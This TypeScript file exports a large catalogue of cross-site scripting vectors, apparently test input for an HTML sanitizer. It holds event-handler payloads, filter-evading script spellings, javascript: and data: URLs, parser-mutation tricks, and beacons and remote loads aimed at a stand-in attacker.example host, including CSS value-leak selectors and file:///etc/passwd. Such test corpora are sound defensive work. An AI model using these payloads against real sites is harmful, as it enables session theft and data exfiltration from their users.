/** A piece of a page that tries to run `alert`, or to reach attacker.example, in whatever shows it. */
export interface InjectionVector {
  name: string;
  html: string;
}

/** Elements by the event attributes that a browser fires on them by itself or at a touch, after the HTML standard's lists. */
const handlers: readonly [string, string][] = [
  ...(
    "onafterprint onbeforeprint onbeforeunload onerror onhashchange onlanguagechange onload onmessage onmessageerror onoffline " +
    "ononline onpagehide onpageshow onpopstate onrejectionhandled onresize onscroll onstorage onunhandledrejection onunload"
  )
    .split(" ")
    .map((event): [string, string] => [event, `<body ${event}="alert(1)">`]),
  ...(
    "onauxclick onbeforecopy onbeforecut onbeforeinput onbeforematch onbeforepaste onblur onclick oncontextmenu oncopy oncut ondblclick " +
    "ondrag ondragend ondragenter ondragleave ondragover ondragstart ondrop onfocus onfocusin onfocusout onfullscreenchange " +
    "ongotpointercapture oninput onkeydown onkeypress onkeyup onlostpointercapture onmousedown onmouseenter onmouseleave " +
    "onmousemove onmouseout onmouseover onmouseup onmousewheel onpaste onpointercancel onpointerdown onpointerenter " +
    "onpointerleave onpointermove onpointerout onpointerover onpointerrawupdate onpointerup onscrollend onscrollsnapchange " +
    "onsecuritypolicyviolation onselectionchange onselectstart ontouchcancel ontouchend ontouchmove ontouchstart onwheel"
  )
    .split(" ")
    .map((event): [string, string] => [
      event,
      `<p ${event}="alert(1)" tabindex="1" autofocus contenteditable draggable="true" style="overflow:auto;height:9px">Essai<br>essai</p>`,
    ]),
  ...(
    "onabort oncanplay oncanplaythrough ondurationchange onemptied onended onerror onloadeddata onloadedmetadata onloadstart onpause " +
    "onplay onplaying onprogress onratechange onseeked onseeking onstalled onsuspend ontimeupdate onvolumechange onwaiting"
  )
    .split(" ")
    .map((event): [string, string] => [
      event,
      `<audio ${event}="alert(1)" autoplay controls src="data:audio/wav;base64,UklGRiQAAABXQVZFZm10IBAAAAABAAEARKwAAIhYAQACABAAZGF0YQAAAAA="></audio>`,
    ]),
  ...(
    "onanimationcancel onanimationend onanimationiteration onanimationstart onwebkitanimationend onwebkitanimationiteration " +
    "onwebkitanimationstart"
  )
    .split(" ")
    .map((event): [string, string] => [
      event,
      `<style>@keyframes k{}</style><b style="animation:k 1ms 2" ${event}="alert(1)">Essai</b>`,
    ]),
  ..."ontransitioncancel ontransitionend ontransitionrun ontransitionstart onwebkittransitionend"
    .split(" ")
    .map((event): [string, string] => [
      event,
      `<a href="#t" id="t" tabindex="1" style="transition:outline 1ms" ${event}="alert(1)" autofocus>Essai</a>`,
    ]),
  ..."onbegin onend onrepeat"
    .split(" ")
    .map((event): [string, string] => [
      event,
      `<svg><animate ${event}="alert(1)" attributeName="x" dur="1ms" repeatCount="2"></svg>`,
    ]),
  ["onchange", `<input onchange="alert(1)" value="essai" autofocus>`],
  ["oncancel", `<dialog open oncancel="alert(1)"><form method="dialog"><button>Essai</button></form></dialog>`],
  ["onclose", `<dialog open onclose="alert(1)"><form method="dialog"><button autofocus>Essai</button></form></dialog>`],
  [
    "oncuechange",
    `<video><track default oncuechange="alert(1)" src="data:text/vtt,WEBVTT%0a%0a00:00.000 --> 00:01.000%0aA"></video>`,
  ],
  [
    "oncontentvisibilityautostatechange",
    `<b style="content-visibility:auto;display:block" oncontentvisibilityautostatechange="alert(1)">Essai</b>`,
  ],
  ["onformdata", `<form id="f" onformdata="alert(1)"><button form="f">Essai</button></form>`],
  ["oninvalid", `<form><input oninvalid="alert(1)" required><button>Essai</button></form>`],
  ["onreset", `<form onreset="alert(1)"><input type="reset" value="Essai"></form>`],
  ["onsearch", `<form><input type="search" onsearch="alert(1)" autofocus></form>`],
  ["onselect", `<input onselect="alert(1)" value="essai" autofocus>`],
  ["onsubmit", `<form onsubmit="alert(1)"><input type="submit" value="Essai"></form>`],
  ["ontoggle", `<details open ontoggle="alert(1)"><summary>Essai</summary></details>`],
  [
    "onbeforetoggle",
    `<button popovertarget="p">Essai</button><div popover id="p" onbeforetoggle="alert(1)">Essai</div>`,
  ],
  ["onslotchange", `<div onslotchange="alert(1)"><template shadowrootmode="open"><slot></slot></template>Essai</div>`],
  [
    "onwebkitplaybacktargetavailabilitychanged",
    `<video onwebkitplaybacktargetavailabilitychanged="alert(1)" src="x"></video>`,
  ],
  ["onshow", `<div contextmenu="m">Essai<menu type="context" id="m" onshow="alert(1)"></menu></div>`],
  ["onbounce", `<marquee onbounce="alert(1)" behavior="alternate" width="1">Essai</marquee>`],
  ["onfinish", `<marquee onfinish="alert(1)" loop="1" width="1">Essai</marquee>`],
  ["onstart", `<marquee onstart="alert(1)">Essai</marquee>`],
];

/** Elements that load or fail by themselves, with the handler that then runs. */
const loaders: readonly string[] = [
  `<img src="x" onerror="alert(1)">`,
  `<img src=x onerror=alert(1)>`,
  `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="alert(1)">`,
  `<img srcset="x 1x" onerror="alert(1)">`,
  `<picture><source srcset="x"><img onerror="alert(1)"></picture>`,
  `<image src="x" onerror="alert(1)">`,
  `<input type="image" src="x" onerror="alert(1)">`,
  `<video src="x" onerror="alert(1)"></video>`,
  `<video><source onerror="alert(1)" src="x"></video>`,
  `<video poster="x" onerror="alert(1)"></video>`,
  `<audio src onerror="alert(1)"></audio>`,
  `<embed src="x" onerror="alert(1)">`,
  `<embed src="data:text/html,<b>" onload="alert(1)">`,
  `<object data="x" onerror="alert(1)"></object>`,
  `<object data="data:text/html,<b>" onload="alert(1)"></object>`,
  `<iframe onload="alert(1)"></iframe>`,
  `<iframe src="x" onload="alert(1)"></iframe>`,
  `<frameset onload="alert(1)"></frameset>`,
  `<link rel="stylesheet" href="x" onerror="alert(1)">`,
  `<link rel="stylesheet" href="data:text/css,*{}" onload="alert(1)">`,
  `<style onload="alert(1)">a{}</style>`,
  `<style onerror="alert(1)">@import "x";</style>`,
  `<script src="x" onerror="alert(1)"></script>`,
  `<script src="data:," onload="alert(1)"></script>`,
  `<track default src="x" onerror="alert(1)">`,
  `<body background="x" onload="alert(1)">`,
  `<svg onload="alert(1)">`,
  `<svg/onload=alert(1)>`,
  `<svg><image href="x" onerror="alert(1)"></svg>`,
  `<svg><use href="x" onerror="alert(1)"></svg>`,
  `<svg><style onload="alert(1)"></style></svg>`,
  `<svg><script href="x" onerror="alert(1)"></script></svg>`,
  `<svg><feImage href="x" onerror="alert(1)"></svg>`,
];

/** A script by name, in every spelling that a browser takes for one and a naive filter for none. */
const scripts: readonly string[] = [
  `<script>alert(1)</script>`,
  `<SCRIPT>alert(1)</SCRIPT>`,
  `<ScRiPt>alert(1)</sCrIpT>`,
  `<script >alert(1)</script >`,
  `<script\n>alert(1)</script\n>`,
  `<script/x>alert(1)</script/x>`,
  `<script x="</script>">alert(1)</script>`,
  `<script type="text/javascript">alert(1)</script>`,
  `<script type="module">alert(1)</script>`,
  `<script type="importmap">{"imports":{"a":"data:text/javascript,alert(1)"}}</script><script type="module">import "a"</script>`,
  `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["http://attacker.example/s"]}]}</script>`,
  `<script nomodule>alert(1)</script>`,
  `<script defer src="data:text/javascript,alert(1)"></script>`,
  `<script async src="data:text/javascript;base64,YWxlcnQoMSk="></script>`,
  `<script src="http://attacker.example/a.js"></script>`,
  `<script src="//attacker.example/a.js"></script>`,
  `<script src=\\\\attacker.example\\a.js></script>`,
  `<script>/*</script><script>*/alert(1)</script>`,
  `<script><!--\nalert(1)//--></script>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<<script>alert(1)//<</script>`,
  `<scr\u0000ipt>alert(1)</scr\u0000ipt>`,
  `<script>alert(1)`,
  `</title><script>alert(1)</script>`,
  `</textarea><script>alert(1)</script>`,
  `</style><script>alert(1)</script>`,
  `</noscript><script>alert(1)</script>`,
  `</template><script>alert(1)</script>`,
  `</xmp><script>alert(1)</script>`,
  `</plaintext><script>alert(1)</script>`,
  `--><script>alert(1)</script>`,
  `]]><script>alert(1)</script>`,
  `"><script>alert(1)</script>`,
  `'><script>alert(1)</script>`,
  `\`><script>alert(1)</script>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><script>alert&#40;1&#41;</script></svg>`,
  `<svg><script xlink:href="data:text/javascript,alert(1)"></script></svg>`,
  `<svg><script href="data:text/javascript,alert(1)"/></svg>`,
  `<math><script>alert(1)</script></math>`,
  `<template><script>alert(1)</script></template>`,
  `<div><template shadowrootmode="open"><script>alert(1)</script></template></div>`,
  `<noscript><p title="</noscript><script>alert(1)</script>"></noscript>`,
  `&lt;script&gt;alert(1)&lt;/script&gt;`,
  `&#60;script&#62;alert(1)&#60;/script&#62;`,
  `%3Cscript%3Ealert(1)%3C/script%3E`,
  `\\u003cscript\\u003ealert(1)\\u003c/script\\u003e`,
  `＜script＞alert(1)＜/script＞`,
  `¼script¾alert(1)¼/script¾`,
  `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
];

/** Addresses that run rather than lead, in the spellings that slip through a filter. */
const runningAddresses: readonly string[] = [
  `javascript:alert(1)`,
  `JaVaScRiPt:alert(1)`,
  `javascript&colon;alert(1)`,
  `javascript&#58;alert(1)`,
  `javascript&#x3a;alert(1)`,
  `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)`,
  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)`,
  `&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)`,
  ` javascript:alert(1)`,
  `&#1;javascript:alert(1)`,
  `&#31;javascript:alert(1)`,
  `java&Tab;script:alert(1)`,
  `java&NewLine;script:alert(1)`,
  `java&#9;script:alert(1)`,
  `java&#10;script:alert(1)`,
  `java&#13;script:alert(1)`,
  `java\tscript:alert(1)`,
  `java\nscript:alert(1)`,
  `javascript://%0aalert(1)`,
  `javascript://attacker.example/%0aalert(1)`,
  `javascript:/**/alert(1)`,
  `javascript:%61lert(1)`,
  `javascript:"<script>alert(1)</script>"`,
  `feed:javascript:alert(1)`,
  `view-source:javascript:alert(1)`,
  `vbscript:msgbox(1)`,
  `livescript:alert(1)`,
  `data:text/html,<script>alert(1)</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:text/html;charset=utf-16,%3Cscript%3Ealert(1)%3C/script%3E`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`,
  `data:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>`,
  `data:text/xml,<a:script xmlns:a="http://www.w3.org/1999/xhtml">alert(1)</a:script>`,
  `blob:http://attacker.example/1`,
  `file:///etc/passwd`,
  `\\\\attacker.example\\share`,
];

/** Where an address may stand so that it is followed, loaded or submitted. */
const carriers: readonly [string, (address: string) => string][] = [
  ["a", (address) => `<a href='${address}'>Essai</a>`],
  ["area", (address) => `<map name="m"><area href='${address}' shape="default"></map><img usemap="#m" alt="Essai">`],
  ["iframe", (address) => `<iframe src='${address}'></iframe>`],
  ["form", (address) => `<form action='${address}'><button>Essai</button></form>`],
  ["formaction", (address) => `<form><button formaction='${address}'>Essai</button></form>`],
  ["object", (address) => `<object data='${address}'></object>`],
  ["embed", (address) => `<embed src='${address}'>`],
  ["base", (address) => `<base href='${address}'><a href="#">Essai</a>`],
  ["svg a", (address) => `<svg><a xlink:href='${address}'><text y="20">Essai</text></a></svg>`],
  ["math", (address) => `<math><mtext href='${address}'>Essai</mtext></math>`],
  [
    "animate",
    (address) => `<svg><a><animate attributeName="href" values='${address}'/><text y="20">Essai</text></a></svg>`,
  ],
  ["meta", (address) => `<meta http-equiv="refresh" content='0;url=${address}'>`],
];

/** What parses one way in one place and another way in the next, or hides in what is no element. */
const mutations: readonly string[] = [
  `<noscript><style></noscript><img src=x onerror=alert(1)></style>`,
  `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<math><mi//xlink:href="data:x,<script>alert(1)</script>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  `<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>`,
  `<svg><desc><b><img src=x onerror=alert(1)></b></desc></svg>`,
  `<svg><title><style><img src=x onerror=alert(1)></style></title></svg>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>`,
  `<table><td background="javascript:alert(1)">Essai</td></table>`,
  `<table background="javascript:alert(1)"><tr><td>Essai</td></tr></table>`,
  `<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>`,
  `<listing>&lt;img src=x onerror=alert(1)&gt;</listing>`,
  `<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>`,
  `<title><img title="</title><img src=x onerror=alert(1)>"></title>`,
  `<comment><img src="</comment><img src=x onerror=alert(1)//">`,
  `<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`,
  `<!--><img src=x onerror=alert(1)>-->`,
  `<!--!><img src=x onerror=alert(1)>--!>`,
  `<![CDATA[<img src=x onerror=alert(1)>]]>`,
  `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://attacker.example/x.xsl"?><p>Essai</p>`,
  `<? foo="><script>alert(1)</script>">`,
  `<!DOCTYPE x [<!ENTITY e SYSTEM "http://attacker.example/e">]><p>&e;</p>`,
  `<% foo><x foo="%><script>alert(1)</script>">`,
  `<div id="x"><img alt="\`\`onerror=alert(1)" src="x"></div>`,
  `<img src="x\` \`<script>alert(1)</script>"\` \`>`,
  `<img """><script>alert(1)</script>">`,
  `<a title="x" href='"onmouseover="alert(1)'>Essai</a>`,
  `<a href="x" title="&quot; onmouseover=&quot;alert(1)">Essai</a>`,
  `<p class='"><img src=x onerror=alert(1)>'>Essai</p>`,
  `<p id="a' onclick='alert(1)">Essai</p>`,
  `<custom-element onclick="alert(1)" tabindex="1" autofocus>Essai</custom-element>`,
  `<input autofocus onfocus=alert(1)>`,
  `<select autofocus onfocus=alert(1)></select>`,
  `<textarea autofocus onfocus=alert(1)></textarea>`,
  `<keygen autofocus onfocus=alert(1)>`,
  `<isindex action="javascript:alert(1)" type="image">`,
  `<button is="x" onclick="alert(1)" popovertarget="q">Essai</button>`,
  `<object type="text/x-scriptlet" data="http://attacker.example/s.html"></object>`,
  `<applet code="x" codebase="javascript:alert(1)"></applet>`,
  `<bgsound src="javascript:alert(1)">`,
  `<layer src="http://attacker.example/l.html"></layer>`,
  `<ilayer src="http://attacker.example/l.html"></ilayer>`,
  `<xml src="http://attacker.example/x.xml" id="x"></xml><span datasrc="#x" datafld="c" dataformatas="html"></span>`,
  `<html xmlns:xss><?import namespace="xss" implementation="http://attacker.example/x.htc"><xss:xss>Essai</xss:xss></html>`,
  `<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>`,
  `<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>parent.alert(1)</script>"></iframe>`,
  `<fencedframe src="http://attacker.example/f"></fencedframe>`,
  `<portal src="http://attacker.example/p"></portal>`,
  `<img name="body"><form name="document"><input name="cookie"><input name="createElement"></form>`,
  `<a id="__proto__"></a><form id="constructor"><input name="prototype"></form>`,
  `<div style="width:expression(alert(1))">Essai</div>`,
  `<div style="background:url(javascript:alert(1))">Essai</div>`,
  `<div style="-moz-binding:url(http://attacker.example/x.xml#x)">Essai</div>`,
  `<div style="behavior:url(http://attacker.example/x.htc)">Essai</div>`,
  `<div style="list-style:url(http://attacker.example/l.png)">Essai</div>`,
  `<div style="background-image:\\75\\72\\6C(http://attacker.example/b.png)">Essai</div>`,
  `<style>@import "http://attacker.example/i.css";</style>`,
  `<style>@font-face{font-family:x;src:url(http://attacker.example/f.woff)}p{font-family:x}</style>`,
  `<style>body{background:url("http://attacker.example/b.png")}</style>`,
  `<style>input[value^="a"]{background:url(http://attacker.example/a)}</style>`,
  `<style>*{x:expression(alert(1))}</style>`,
  `<link rel="import" href="http://attacker.example/i.html">`,
  `<svg><set attributeName="onmouseover" to="alert(1)"/></svg>`,
  `<svg><animate attributeName="onload" to="alert(1)"/></svg>`,
  `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>`,
  `<svg><filter><feImage xlink:href="http://attacker.example/f.svg"/></filter></svg>`,
  `<svg><use xlink:href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+#x"/></svg>`,
];

/** What loads something from elsewhere without running anything: it tells who reads, and when. */
const beacons: readonly string[] = [
  `<img src="http://attacker.example/i.png">`,
  `<img src="//attacker.example/i.png">`,
  `<img src="\\\\attacker.example\\i.png">`,
  `<img srcset="http://attacker.example/s.png 2x">`,
  `<img src="x" longdesc="http://attacker.example/l" lowsrc="http://attacker.example/l.png" dynsrc="http://attacker.example/d.avi">`,
  `<picture><source srcset="http://attacker.example/p.webp"><img alt="Essai"></picture>`,
  `<video poster="http://attacker.example/p.png"></video>`,
  `<video src="http://attacker.example/v.mp4" autoplay preload="auto"></video>`,
  `<audio src="http://attacker.example/a.mp3" autoplay></audio>`,
  `<track default src="http://attacker.example/t.vtt">`,
  `<iframe src="http://attacker.example/f"></iframe>`,
  `<frameset><frame src="http://attacker.example/f"></frameset>`,
  `<object data="http://attacker.example/o"></object>`,
  `<object classid="clsid:x" codebase="http://attacker.example/o"></object>`,
  `<embed src="http://attacker.example/e">`,
  `<link rel="stylesheet" href="http://attacker.example/s.css">`,
  `<link rel="icon" href="http://attacker.example/i.ico">`,
  `<link rel="preload" as="image" href="http://attacker.example/p.png">`,
  `<link rel="prefetch" href="http://attacker.example/p">`,
  `<link rel="modulepreload" href="http://attacker.example/m.js">`,
  `<link rel="preconnect" href="http://attacker.example">`,
  `<link rel="dns-prefetch" href="http://attacker.example">`,
  `<link rel="manifest" href="http://attacker.example/m.json">`,
  `<meta http-equiv="refresh" content="0;url=http://attacker.example/r">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri http://attacker.example/c">`,
  `<meta http-equiv="Set-Cookie" content="a=b">`,
  `<base href="http://attacker.example/"><img src="i.png"><script src="a.js"></script>`,
  `<body background="http://attacker.example/b.png">`,
  `<table background="http://attacker.example/t.png"><tr><td background="http://attacker.example/d.png">Essai</td></tr></table>`,
  `<input type="image" src="http://attacker.example/i.png">`,
  `<a href="http://attacker.example/a" ping="http://attacker.example/p">Essai</a>`,
  `<form action="http://attacker.example/f" method="post"><input autofocus><button>Essai</button></form>`,
  `<p style="background:url(http://attacker.example/p.png)">Essai</p>`,
  `<p style="content:url(http://attacker.example/c.png);cursor:url(http://attacker.example/c.cur),auto">Essai</p>`,
  `<p style='border-image:url("http://attacker.example/b.png") 1;mask:url(http://attacker.example/m.svg#m)'>Essai</p>`,
  `<svg><image href="http://attacker.example/i.png" width="9" height="9"/></svg>`,
  `<svg><use href="http://attacker.example/u.svg#u"/></svg>`,
  `<svg style="filter:url(http://attacker.example/f.svg#f)"><rect width="9" height="9"/></svg>`,
  `<math><maction actiontype="statusline#http://attacker.example" xlink:href="http://attacker.example/m">Essai</maction></math>`,
];

function named(family: string, list: readonly string[]): InjectionVector[] {
  return list.map((html, index) => ({ name: `${family} ${index + 1}`, html }));
}

/**
 * Known ways to make a page run a script or fetch something where it is only to be read, written after the families of the
 * published cheat sheets (OWASP's XSS Filter Evasion, PortSwigger's XSS cheat sheet, the HTML5 Security Cheatsheet): each event
 * attribute, each spelling of a script and of an address that runs, each carrier of an address, mutations and beacons.
 */
export const injectionVectors: readonly InjectionVector[] = [
  ...handlers.map(([event, html]) => ({ name: `handler ${event}`, html })),
  ...named("loader", loaders),
  ...named("script", scripts),
  ...runningAddresses.flatMap((address, index) =>
    // Each address in a link, and in one other place by turns, so that each place has seen several.
    [carriers[0], carriers[1 + (index % (carriers.length - 1))]].flatMap((carrier) =>
      carrier ? [{ name: `address ${index + 1} in ${carrier[0]}`, html: carrier[1](address) }] : [],
    ),
  ),
  ...named("mutation", mutations),
  ...named("beacon", beacons),
];
